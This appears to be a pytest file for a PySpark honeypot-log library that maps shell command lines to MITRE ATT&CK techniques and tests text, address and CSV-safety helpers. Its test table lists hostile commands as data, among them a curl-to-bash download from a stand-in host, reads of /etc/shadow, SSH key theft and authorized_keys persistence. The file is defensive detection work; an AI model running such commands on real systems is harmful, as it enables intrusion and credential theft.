"""Command text and technique rules on hand-judged lines."""

import uuid

import pytest
from pyspark.sql import functions as F

from lureframe.functions import ids, net, text
from lureframe.operators import rules
from lureframe.plans import adapter

HITS = {
    # plain invocations
    "wget http://192.0.2.1/a": {"T1105"}, "tftp -g ftp://192.0.2.1/a": {"T1105"}, "chmod u+x ./loader": {"T1222.002"}, "nproc": {"T1082"},
    "head /etc/shadow": {"T1003.008"}, "rm -f x": {"T1070.004"}, "pgrep sshd": {"T1057"}, "ss -ant": {"T1049"}, "du -s": {"T1083"},
    "whoami": {"T1033"}, "usermod -a -L bob": {"T1531"}, "passwd root": {"T1531"}, "ip link": {"T1016"}, "ip neigh": {"T1018"},
    "last": {"T1087.001"}, "pip3 freeze": {"T1518"}, "systemctl --now enable a": {"T1543.002"}, "cp /k/id_ed25519 /tmp": {"T1552.004"},
    "zip -q -jr o.zip d": {"T1005"}, "dash run-it": {"T1059.004"}, "minerd -o pool": {"T1496"}, "cat k | tee ~/.ssh/authorized_keys": {"T1098.004"},
    # wrappers and chains
    "sudo -n wget https://e.example/x": {"T1105"}, "env A=1 B=2 curl http://e.example": {"T1105"}, "timeout 9 id": {"T1033"},
    "cd /; setsid nohup ps aux": {"T1057"}, "x=$(uname -r)": {"T1082"}, "a||b&&netstat": {"T1049"}, 'sh -c "lscpu"': {"T1082"},
    "id\nwho": {"T1033"}, "curl http://e.example/i|bash": {"T1105", "T1059.004"}, "UNAME -A": {"T1082"},
    # naming is not doing
    "printf 'wget http://x'": set(), "egrep minerd /var/log/x": set(), "ls # chmod 777 a": set(), "echo 'rm -rf /' ; ls": set(),
    "cat /etc/hosts.deny": set(), "cat id_rsa.pub": set(), "tar -C /x -xf a.tar": set(), "tar xf a.tar": set(), "sshd -t": set(), "systemctl stop a": set(),
    "ls ~/.ssh/authorized_keys": set(), "echo k > authorized_keys.bak": set(), "cat /etc/passwd_old": set(),
    # quotes, escapes, comments
    'echo "one ; wget http://x"': set(), "echo 'one | wget http://x'": set(), 'echo "a \\" ; wget http://x"': set(), 'echo "a \\\\" ; wget http://x': {"T1105"},
    "echo 'it\\'; wget http://x'": {"T1105"}, r"echo a \; wget http://x": set(), 'echo "never closed ; wget http://x': set(), "echo a # b ; id\nid": {"T1033"},
    "\\": set(), "wget http://x \\": {"T1105"}, "": set(),
    # raw-text rule sees an echoed write
    "echo key >> /root/.ssh/authorized_keys": {"T1098.004"},
}


def test_every_line_hits_exactly(spark):
    df = spark.createDataFrame([(c,) for c in HITS], "command_line string")
    got = {r.command_line: set(r.techniques) for r in rules.match_commands(df).collect()}
    assert {c: got[c] for c in HITS if got[c] != HITS[c]} == {}


def test_adapter_commands_match_the_hand_table(spark):
    df = spark.createDataFrame([(c,) for c in adapter.COMMANDS], "command_line string")
    got = {r.command_line: set(r.techniques) for r in rules.match_commands(df).collect()}
    assert [got[c] for c in adapter.COMMANDS] == [set(adapter.COMMAND_TECHNIQUES[i]) for i in range(len(adapter.COMMANDS))]


def test_hits_and_unmatched_partition_the_rows(spark):
    df = spark.createDataFrame([("s", 1, "id"), ("s", 2, "id"), ("s", 3, "true"), ("s", 4, None)], "session_id string, event_id int, command_line string")
    assert sorted(r.event_id for r in rules.rule_hits(df).collect()) == [1, 2]
    assert [r.event_id for r in rules.unmatched(df).collect()] == [3]


def test_segments(spark):
    cases = {"a;b": ["a", "b"], "a && b||c": ["a ", " b", "c"], "a\n\nb": ["a", "", "b"], "a;\nb": ["a", "", "b"], "x # y": ["x "], "'a;b' c": ["'a;b' c"], "a\\;b": ["a\\;b"], ";": ["", ""]}
    df = spark.createDataFrame([(c,) for c in cases], "c string").select("c", text.command_segments("c").alias("s"))
    assert {r.c: list(r.s) for r in df.collect()} == cases


def test_very_long_lines_are_whole_and_safe(spark):
    line = 'echo "' + '\\"a' * 150_000 + '" ; ' + "A" * 300_000 + " ; wget http://x/y"
    df = spark.createDataFrame([(line,)], "command_line string")
    assert [list(r.techniques) for r in rules.match_commands(df).collect()] == [["T1105"]]


def test_normalize(spark):
    digest = "ab" * 32
    cases = {"  CAT\t/tmp/X ": "cat /tmp/x", f"get {digest} 1.2.3.4": "get <hash> <ip>", "a" * 31: "a" * 31, "v1.2.3.4.5": "v1.2.3.4.5", "x  y": "x y", "": ""}
    df = spark.createDataFrame([(c,) for c in cases], "c string").select("c", text.normalize_command("c").alias("n"))
    got = {r.c: r.n for r in df.collect()}
    cases["v1.2.3.4.5"] = "v1.<ip>"  # the first four groups at a word boundary
    assert got == cases


def test_url_arch(spark):
    cases = {"http://h/bins/x86_64": "x86", "http://h/mirai.arm7": "arm", "http://h/sora.mpsl": "mips", "http://h/aarch64?x=1": "arm", "http://h/i686": "x86", "http://h/arm/i": "none", "ARM64": "arm"}
    df = spark.createDataFrame([(c,) for c in cases], "c string").select("c", text.url_arch("c").alias("a"))
    assert {r.c: r.a for r in df.collect()} == cases


def test_fences_breaks_tokens_and_cuts(spark):
    df = spark.createDataFrame([("a\r\nb c\n", "----- x ===", "x" * 30)], "a string, b string, c string").select(
        text.fence_safe("a").alias("a"), text.fence_safe("b").alias("b"), text.truncate_middle("c", 9).alias("c"), text.estimate_tokens("c").alias("n"), text.estimate_tokens(F.lit("")).alias("z")
    )
    r = df.first()
    assert r.a == "a [line break] b [line break] c" and r.b == f"{text.FENCE_MARKER} x {text.FENCE_MARKER}"
    assert r.c.startswith("xxxxxx\n... [21 characters omitted") and r.c.endswith("...\nxxx") and (r.n, r.z) == (8, 0)


def test_output_keeps_head_and_tail(spark):
    lines = [str(i) for i in range(50)]
    r = spark.createDataFrame([("\n".join(lines), "\n".join(lines[:40]), "")], "a string, b string, c string").select(*[text.truncate_output(c).alias(c) for c in "abc"]).first()
    assert r.a.split("\n") == [*lines[:20], "... 10 lines omitted ...", *lines[30:]] and r.b == "\n".join(lines[:40]) and r.c is None


def test_uuid5_matches_the_standard(spark):
    ns = "6f1b8c3e-2d4a-5e9f-8a7b-1c2d3e4f5a6b"
    names = ["ip:1.2.3.4", "url:http://ü/☃", ""] + [f"n{i}" for i in range(40)]
    df = spark.createDataFrame([(n,) for n in names], "n string").select("n", ids.uuid5(ns, F.col("n")).alias("u"))
    assert {r.n: r.u for r in df.collect()} == {n: str(uuid.uuid5(uuid.UUID(ns), n)) for n in names}


ADDRESSES = [
    "1.2.3.4", "10.0.0.1", "172.16.0.1", "172.32.0.1", "192.0.0.9", "100.64.0.1", "256.1.1.1", "01.2.3.4", "::", "::1", "fe80::1", "2001:4860::8888",
    "2001:db8::1", "::ffff:8.8.8.8", "::ffff:10.0.0.1", "2001:1::1", "fc00::", "1::2::3", "abc", "1:2:3:4:5:6:7:8", "1:2:3", "2002::1", "64:ff9b::1.2.3.4", ":::", "12345::",
]


def test_global_addresses_agree_with_the_standard_library(spark):
    import ipaddress

    def want(a):
        try:
            return ipaddress.ip_address(a).is_global
        except ValueError:
            return None

    df = spark.createDataFrame([(a,) for a in ADDRESSES], "a string").select("a", net.is_global("a").alias("g"))
    assert {r.a: r.g for r in df.collect()} == {a: want(a) for a in ADDRESSES}


@pytest.mark.parametrize("value,safe", [("=1+1", "'=1+1"), ("@x", "'@x"), ("-a", "'-a"), ("\tx", "'\tx"), ("a=b", "a=b"), ("", "")])
def test_csv_guard(spark, value, safe):
    assert spark.createDataFrame([(value,)], "v string").select(text.csv_safe("v").alias("v")).first().v == safe
